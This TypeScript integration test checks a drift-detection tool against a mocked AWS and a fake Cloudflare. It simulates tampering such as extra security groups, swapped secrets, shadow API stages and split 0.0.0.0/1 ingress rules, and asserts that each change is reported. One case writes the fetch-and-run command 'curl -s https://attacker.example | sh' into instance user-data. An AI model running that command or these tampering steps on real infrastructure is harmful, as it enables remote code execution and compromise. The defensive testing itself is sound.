import { mkdtempSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { APIGatewayClient, CreateDeploymentCommand, CreateRestApiCommand, CreateStageCommand, DeleteDeploymentCommand, DeleteRestApiCommand, DeleteStageCommand } from '@aws-sdk/client-api-gateway';
import { ApiGatewayV2Client, CreateDomainNameCommand, DeleteDomainNameCommand } from '@aws-sdk/client-apigatewayv2';
import {
  AllocateAddressCommand, AuthorizeSecurityGroupIngressCommand, CreateSecurityGroupCommand, DeleteSecurityGroupCommand, DescribeInstanceAttributeCommand, DescribeInstancesCommand, EC2Client,
  ModifyInstanceAttributeCommand, ReleaseAddressCommand, RevokeSecurityGroupIngressCommand,
} from '@aws-sdk/client-ec2';
import { CreateBucketCommand, DeleteBucketCommand, DeleteObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { PutSecretValueCommand, SecretsManagerClient, UpdateSecretVersionStageCommand } from '@aws-sdk/client-secrets-manager';
import { fromRoot } from '../../lib/paths';
import { readStates } from '../../tools/drift/state';
import { synthesizeJson } from '../../tools/synth/synth-json';
import { budgetFor } from '../support/budget';
import { aRecord, cnameRecord, startFakeCloudflare } from '../support/fake-cloudflare';
import { motoEnv } from '../support/moto';
import { runToEnd } from '../support/processes';
import { SHARED_LOCAL_SETUP_BUDGET, sharedLocalEnvironment, sharedLocalUnavailableReason, type SharedLocalEnvironment } from '../support/shared-local';
import { withoutHeartbeats } from '../support/heartbeat';
import { describeUnless } from '../support/skip';

/**
 * The out-of-band changes a refreshing plan cannot see, made on the applied `local`
 * environment, each of which `npm run drift -- --live-only` (the live checks `npm run
 * drift` runs after its plans) or `npm run drift -- --bypass` must report with exit 2,
 * naming the resource; every change is put back in the same exclusive turn, and both
 * commands exit 0 before and after.
 */

// The SDK's Node 22 notice is noise in this test's output (the project pins Node 20).
process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED ??= 'true';

const describeMoto = describeUnless(sharedLocalUnavailableReason(), 'live checks and bypass against the applied local environment');

const REGION = 'us-east-1';
const OTHER_REGION = 'us-west-2';
const ZONE = '0123456789abcdef0123456789abcdef';
const creds = { accessKeyId: 'testing', secretAccessKey: 'testing' };
const CERT = 'arn:aws:acm:us-east-1:123456789012:certificate/00000000-0000-0000-0000-000000000000';
const FOREIGN_CA = '-----BEGIN CERTIFICATE-----\nMIIBforeign\n-----END CERTIFICATE-----\n';

type State = Map<string, Readonly<Record<string, unknown>>>;
interface Clients { ec2: EC2Client; ec2West: EC2Client; secrets: SecretsManagerClient; apigw: APIGatewayClient; apigwWest: APIGatewayClient; v2: ApiGatewayV2Client; s3: S3Client }

/** One change behind Terraform's back: `make` returns how to put it back. */
interface LiveChange {
  readonly what: string;
  readonly make: (c: Clients, s: State) => Promise<() => Promise<void>>;
  /** What the report must name. */
  readonly names: RegExp;
}

const only = (s: State, prefix: string) => [...s].find(([a]) => a.startsWith(prefix))![1] as Record<string, any>;
const base64Of = (text: string) => new TextEncoder().encode(Buffer.from(text).toString('base64'));

async function extraGroup(c: Clients, s: State, instancePrefix: string): Promise<() => Promise<void>> {
  const instance = only(s, instancePrefix);
  const extra = (await c.ec2.send(new CreateSecurityGroupCommand({ GroupName: `oob-${Date.now()}`, Description: 'attached out of band', VpcId: only(s, 'aws_vpc.').id }))).GroupId!;
  const groups = (await c.ec2.send(new DescribeInstancesCommand({ InstanceIds: [instance.id] }))).Reservations![0].Instances![0].SecurityGroups!.map((g) => g.GroupId!);
  await c.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: instance.id, Groups: [...groups, extra] }));
  return async () => {
    await c.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: instance.id, Groups: groups }));
    await c.ec2.send(new DeleteSecurityGroupCommand({ GroupId: extra }));
  };
}

const LIVE_CHANGES: readonly LiveChange[] = [
  { what: 'an extra security group attached to a key server', make: (c, s) => extraGroup(c, s, 'aws_instance.KeyServer-key-a'), names: /aws_instance\.KeyServer-key-a.*network interface security groups/ },
  { what: 'an extra security group attached to the demo origin host', make: (c, s) => extraGroup(c, s, 'aws_instance.OriginHost'), names: /aws_instance\.OriginHost.*network interface security groups/ },
  {
    what: 'user-data replaced on a key server',
    make: async (c, s) => {
      const id = only(s, 'aws_instance.KeyServer-key-b').id;
      const before = (await c.ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: id, Attribute: 'userData' }))).UserData!.Value!;
      await c.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, UserData: { Value: base64Of('#!/bin/sh\ncurl -s https://attacker.example | sh\n') } }));
      return async () => void (await c.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, UserData: { Value: new TextEncoder().encode(before) } })));
    },
    names: /aws_instance\.KeyServer-key-b.*user_data/,
  },
  {
    what: 'the tunnel token secret value swapped',
    make: async (c, s) => {
      const managed = only(s, 'aws_secretsmanager_secret_version.');
      const put = await c.secrets.send(new PutSecretValueCommand({ SecretId: managed.secret_id, SecretString: 'a token of the attacker' }));
      return async () => void (await c.secrets.send(new UpdateSecretVersionStageCommand({ SecretId: managed.secret_id, VersionStage: 'AWSCURRENT', MoveToVersionId: managed.version_id, RemoveFromVersionId: put.VersionId })));
    },
    names: /aws_secretsmanager_secret_version\..*AWSCURRENT version/,
  },
  {
    what: 'the keyless private key replaced after an operator put it in (a second version)',
    make: async (c, s) => {
      const arn = only(s, 'aws_secretsmanager_secret.Secrets_PrivateKey').arn;
      const first = await c.secrets.send(new PutSecretValueCommand({ SecretId: arn, SecretString: 'the key an operator put in' }));
      await c.secrets.send(new PutSecretValueCommand({ SecretId: arn, SecretString: 'a key of the attacker' }));
      // Back to one labeled version (the deprecated one carries no label).
      return async () => void (await c.secrets.send(new UpdateSecretVersionStageCommand({ SecretId: arn, VersionStage: 'AWSPREVIOUS', RemoveFromVersionId: first.VersionId })));
    },
    names: /aws_secretsmanager_secret\.Secrets_PrivateKey.*versions/,
  },
  {
    what: 'a new stage (with its deployment) on our API',
    make: async (c, s) => {
      const api = only(s, 'aws_api_gateway_rest_api.').id;
      const d = (await c.apigw.send(new CreateDeploymentCommand({ restApiId: api, description: 'out of band' }))).id!;
      await c.apigw.send(new CreateStageCommand({ restApiId: api, stageName: 'shadow', deploymentId: d }));
      return async () => {
        await c.apigw.send(new DeleteStageCommand({ restApiId: api, stageName: 'shadow' }));
        await c.apigw.send(new DeleteDeploymentCommand({ restApiId: api, deploymentId: d }));
      };
    },
    names: /aws_api_gateway_rest_api\..*stage shadow/,
  },
  {
    what: 'a new deployment on our API (no stage)',
    make: async (c, s) => {
      const api = only(s, 'aws_api_gateway_rest_api.').id;
      const d = (await c.apigw.send(new CreateDeploymentCommand({ restApiId: api, description: 'staged later' }))).id!;
      return async () => void (await c.apigw.send(new DeleteDeploymentCommand({ restApiId: api, deploymentId: d })));
    },
    names: /aws_api_gateway_rest_api\..*deployment \w+/,
  },
];

/** Bypass changes: `records` are the zone's DNS records the fake Cloudflare serves meanwhile. */
interface BypassChange {
  readonly what: string;
  readonly make: (c: Clients, s: State) => Promise<{ undo: () => Promise<void>; records?: ReturnType<typeof aRecord | typeof cnameRecord>[] }>;
  readonly kind: string;
  readonly names: RegExp;
}

const BYPASS_CHANGES: readonly BypassChange[] = [
  {
    what: 'public ingress on the key servers split as 0.0.0.0/1 + 128.0.0.0/1',
    make: async (c, s) => {
      const g = only(s, 'aws_security_group.KeyServerSecurityGroup').id;
      const perm = { IpProtocol: 'tcp', FromPort: 2407, ToPort: 2407, IpRanges: [{ CidrIp: '0.0.0.0/1' }, { CidrIp: '128.0.0.0/1' }] };
      await c.ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: g, IpPermissions: [perm] }));
      return { undo: async () => void (await c.ec2.send(new RevokeSecurityGroupIngressCommand({ GroupId: g, IpPermissions: [perm] }))) };
    },
    kind: 'security-group-internet',
    names: /0\.0\.0\.0\/1 \+ 128\.0\.0\.0\/1/,
  },
  {
    what: 'public IPv6 ingress on the origin host split across two rules (2000::/4 + 3000::/4)',
    make: async (c, s) => {
      const g = only(s, 'aws_security_group.OriginHost_SecurityGroup').id;
      const perms = [
        { IpProtocol: 'tcp', FromPort: 80, ToPort: 80, Ipv6Ranges: [{ CidrIpv6: '2000::/4' }] },
        { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, Ipv6Ranges: [{ CidrIpv6: '3000::/4' }] },
      ];
      await c.ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: g, IpPermissions: perms }));
      return { undo: async () => void (await c.ec2.send(new RevokeSecurityGroupIngressCommand({ GroupId: g, IpPermissions: perms }))) };
    },
    kind: 'security-group-internet',
    names: /2 rules together/,
  },
  {
    what: 'an unproxied A record at an Elastic IP of the account',
    make: async (c) => {
      const eip = await c.ec2.send(new AllocateAddressCommand({ Domain: 'vpc' }));
      return { records: [aRecord('rec-eip', 'direct.example.test', eip.PublicIp!, false)], undo: async () => void (await c.ec2.send(new ReleaseAddressCommand({ AllocationId: eip.AllocationId }))) };
    },
    kind: 'dns-unproxied-account-address',
    names: /rec-eip/,
  },
  {
    what: "an unproxied A record at the NAT gateway's Elastic IP (ours)",
    make: async (_c, s) => ({ records: [aRecord('rec-nat', 'nat.example.test', only(s, 'aws_eip.').public_ip, false)], undo: async () => undefined }),
    kind: 'dns-unproxied-account-address',
    names: /rec-nat/,
  },
  {
    what: 'an unproxied CNAME at a load balancer name of the account',
    make: async () => ({ records: [cnameRecord('rec-elb', 'lb.example.test', 'internal-x-123.us-east-1.elb.amazonaws.com', false)], undo: async () => undefined }),
    kind: 'dns-unproxied-origin',
    names: /rec-elb/,
  },
  {
    what: 'a copy of the API in another region with its execute-api endpoint on',
    make: async (c) => {
      const id = (await c.apigwWest.send(new CreateRestApiCommand({ name: 'local-mtls-demo', endpointConfiguration: { types: ['REGIONAL'] } }))).id!;
      return { undo: async () => void (await c.apigwWest.send(new DeleteRestApiCommand({ restApiId: id }))) };
    },
    kind: 'rest-api-execute-api',
    names: /in us-west-2/,
  },
  {
    what: 'a custom domain with mTLS whose truststore is not ours',
    make: async (c) => {
      const bucket = `foreign-truststore-${Date.now()}`;
      await c.s3.send(new CreateBucketCommand({ Bucket: bucket }));
      await c.s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'ca.pem', Body: FOREIGN_CA }));
      await c.v2.send(new CreateDomainNameCommand({ DomainName: 'partner.example.test', DomainNameConfigurations: [{ CertificateArn: CERT, EndpointType: 'REGIONAL', SecurityPolicy: 'TLS_1_2' }], MutualTlsAuthentication: { TruststoreUri: `s3://${bucket}/ca.pem` } }));
      return {
        undo: async () => {
          await c.v2.send(new DeleteDomainNameCommand({ DomainName: 'partner.example.test' }));
          await c.s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: 'ca.pem' }));
          await c.s3.send(new DeleteBucketCommand({ Bucket: bucket }));
        },
      };
    },
    kind: 'domain-foreign-truststore',
    names: /partner\.example\.test/,
  },
  {
    what: 'an API named like ours (local-…) with execute-api on: not ours by identity',
    make: async (c) => {
      const id = (await c.apigw.send(new CreateRestApiCommand({ name: 'local-mtls-demo-copy', endpointConfiguration: { types: ['REGIONAL'] } }))).id!;
      return { undo: async () => void (await c.apigw.send(new DeleteRestApiCommand({ restApiId: id }))) };
    },
    kind: 'rest-api-execute-api',
    names: /local-mtls-demo-copy\)$/,
  },
];

describeMoto('live checks and bypass against the applied local environment (moto, fake Cloudflare)', () => {
  let local: SharedLocalEnvironment;
  let temp: string;
  let clients: Clients;
  let state: State;

  beforeAll(async () => {
    local = await sharedLocalEnvironment();
    temp = mkdtempSync(join(local.runOptions().workDir, 'live-'));
    const config = (region: string) => ({ region, endpoint: local.endpoint, credentials: creds });
    clients = {
      ec2: new EC2Client(config(REGION)), ec2West: new EC2Client(config(OTHER_REGION)), secrets: new SecretsManagerClient(config(REGION)),
      apigw: new APIGatewayClient(config(REGION)), apigwWest: new APIGatewayClient(config(OTHER_REGION)), v2: new ApiGatewayV2Client(config(REGION)), s3: new S3Client({ ...config(REGION), forcePathStyle: true }),
    };
  }, SHARED_LOCAL_SETUP_BUDGET);

  const drift = async (extra: string[], vars: NodeJS.ProcessEnv = {}) => {
    const json = join(temp, `r-${Date.now()}.json`);
    const r = await runToEnd('npm', ['run', '--silent', 'drift', '--', '--env', 'local', '--state-root', local.stateRoot, '--json', json, ...extra], {
      cwd: fromRoot(), env: { ...process.env, ...motoEnv(), AWS_ENDPOINT_URL: local.endpoint, EDGE_ENVS_DIR: local.envsDir, ...vars },
    });
    return { code: r.code, stdout: r.stdout, stderr: withoutHeartbeats(r.stderr), json: JSON.parse(readFileSync(json, 'utf8')) };
  };

  it(`live checks: clean after up, each of ${LIVE_CHANGES.length} changes exits 2 naming the resource, clean again`, async () => {
    await local.exclusive(async () => {
      state = (await readStates(synthesizeJson('local', local.envsDir).stacks, { stateRoot: local.stateRoot })).values;
      const clean = await drift(['--live-only']);
      expect({ code: clean.code, stderr: clean.stderr, out: clean.code === 0 ? '' : clean.stdout }).toEqual({ code: 0, stderr: '', out: '' });
      expect(clean.stdout).toMatch(/Edge live audit: not run \(known gap\)/);
      const undo: Array<() => Promise<void>> = [];
      try {
        for (const change of LIVE_CHANGES) undo.push(await change.make(clients, state));
        const r = await drift(['--live-only']);
        expect(r.code).toBe(2);
        const findings: Array<{ resource: string; what: string }> = r.json.checks.flatMap((c: { findings: unknown[] }) => c.findings);
        for (const change of LIVE_CHANGES) expect({ change: change.what, found: findings.some((f) => change.names.test(`${f.resource} ${f.what}`)) }).toEqual({ change: change.what, found: true });
      } finally {
        for (const u of undo.reverse()) await u();
      }
      const again = await drift(['--live-only']);
      expect({ code: again.code, out: again.code === 0 ? '' : again.stdout }).toEqual({ code: 0, out: '' });
    });
  }, budgetFor('sharedEnvironmentTurn', 'liveChecks', 'liveChecks', 'liveChecks', 'npmCommand', 'npmCommand', 'npmCommand'));

  it(`bypass: clean after up (gaps listed), each of ${BYPASS_CHANGES.length} changes exits 2 naming the resource, clean again`, async () => {
    await local.exclusive(async () => {
      state = (await readStates(synthesizeJson('local', local.envsDir).stacks, { stateRoot: local.stateRoot })).values;
      const regions = ['--regions', `${REGION},${OTHER_REGION}`];
      const clean = await drift(['--bypass', ...regions]);
      expect({ code: clean.code, stderr: clean.stderr, out: clean.code === 0 ? '' : clean.stdout }).toEqual({ code: 0, stderr: '', out: '' });
      expect(clean.json.gaps.map((g: { what: string }) => g.what)).toEqual([`DNS records of zone ${ZONE}`, 'domain-without-mtls: REST custom domain api.example.test']);
      const undo: Array<() => Promise<void>> = [];
      const records: ReturnType<typeof aRecord>[] = [];
      const cloudflare = await startFakeCloudflare(ZONE, []);
      try {
        for (const change of BYPASS_CHANGES) {
          const made = await change.make(clients, state);
          undo.push(made.undo);
          records.push(...((made.records ?? []) as ReturnType<typeof aRecord>[]));
        }
        cloudflare.records = records;
        const r = await drift(['--bypass', ...regions], { CLOUDFLARE_API_TOKEN: 'test-token', CLOUDFLARE_BASE_URL: cloudflare.baseURL });
        expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 2, stderr: '' });
        const findings: Array<{ kind: string; resource: string; declared: boolean }> = r.json.bypass;
        for (const change of BYPASS_CHANGES) {
          expect({ change: change.what, found: findings.filter((f) => f.kind === change.kind && change.names.test(f.resource)).length }).toEqual({ change: change.what, found: 1 });
        }
        // "Ours" is identity in state, never a name: the look-alike API is not ours.
        expect(findings.filter((f) => /local-mtls-demo/.test(f.resource)).map((f) => f.declared)).toEqual([false, false]);
      } finally {
        await cloudflare.stop();
        for (const u of undo.reverse()) await u();
      }
      const again = await drift(['--bypass', ...regions]);
      expect({ code: again.code, out: again.code === 0 ? '' : again.stdout }).toEqual({ code: 0, out: '' });
    });
  }, budgetFor('sharedEnvironmentTurn', 'bypassLocal', 'bypassLocal', 'bypassLocal', 'npmCommand', 'npmCommand', 'npmCommand'));

  it(`counts ${LIVE_CHANGES.length + BYPASS_CHANGES.length} out-of-band AWS changes (with the 12 edge changes of test/unit/drift/edge-audit.test.ts)`, () => {
    expect(LIVE_CHANGES.length + BYPASS_CHANGES.length + 12).toBeGreaterThanOrEqual(20);
  });
});
